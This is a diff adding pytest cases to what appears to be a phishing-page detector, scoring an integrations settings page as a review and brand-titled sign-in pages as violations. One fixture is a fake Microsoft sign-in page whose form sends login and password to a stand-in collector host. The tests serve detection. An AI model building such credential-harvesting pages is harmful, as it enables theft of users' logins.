@@ -302,6 +302,47 @@ def test_a_login_page_naming_brands_in_passing_is_no_phishing_page() -> None:
     assert f.evidence["brands"] == ["PayPal"]
 
 
+INTEGRATIONS_PAGE = (
+    b"<html><head><title>Integrations - Acme CRM</title></head><body><h1>Integrations</h1>"
+    b'<h2>Amazon S3 export</h2><form action="/api/integrations/s3" method="post">'
+    b'<label>Access key ID <input name="key_id"></label>'
+    b'<label>Secret access key <input type="password" name="secret_access_key"></label></form>'
+    b'<h2>PayPal payouts</h2><form action="/api/integrations/paypal" method="post">'
+    b'<label>PayPal client secret <input type="password" id="paypal-client-secret"></label></form>'
+    b'<h2>Microsoft 365 mail</h2><form action="/api/integrations/smtp" method="post">'
+    b'<label>SMTP password <input type="password" name="smtp_password"></label></form></body></html>'
+)
+
+
+def test_a_settings_page_asking_for_a_brands_key_or_secret_is_a_review_not_a_phishing_page() -> None:
+    """An integrations page names the services it connects in its headings and labels, and masks
+    their secrets. Before, it was a 0.85 phishing page (struck): now a review."""
+    result, findings = scan(INTEGRATIONS_PAGE, "integrations.html")
+    (f,) = findings
+    assert (f.rule_id, f.confidence) == ("W1-phishing-page", 0.6)
+    assert f.evidence["brands"] == ["Amazon", "Microsoft", "PayPal"] and f.evidence["secret_fields_only"]
+    assert verdict(result.status, findings, POLICY) is Verdict.review
+
+
+@pytest.mark.parametrize(
+    "field",
+    [
+        b'<input type="password" name="pw">',
+        b'<input type="password" name="passwd" id="i0118">',  # the field a Microsoft sign-in kit copies
+        b'<input type="password" name="client_secret" autocomplete="current-password">',
+    ],
+)
+def test_a_sign_in_password_under_a_brands_name_stays_a_phishing_page(field: bytes) -> None:
+    page = (
+        b"<html><head><title>Sign in to your Microsoft account</title></head><body><h1>Microsoft</h1>"
+        b'<form action="https://collect.example/"><input name="login">' + field + b"</form></body></html>"
+    )
+    result, findings = scan(page, "login.html")
+    (f,) = findings
+    assert (f.rule_id, f.confidence, f.evidence["secret_fields_only"]) == ("W1-phishing-page", 0.85, False)
+    assert verdict(result.status, findings, POLICY) is Verdict.violation
+
+
 def test_awss_documented_example_keys_are_no_credentials() -> None:
     doc = b"export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nASIAIOSFODNN7EXAMPLE\n"
     _, findings = scan(doc, "README.md")
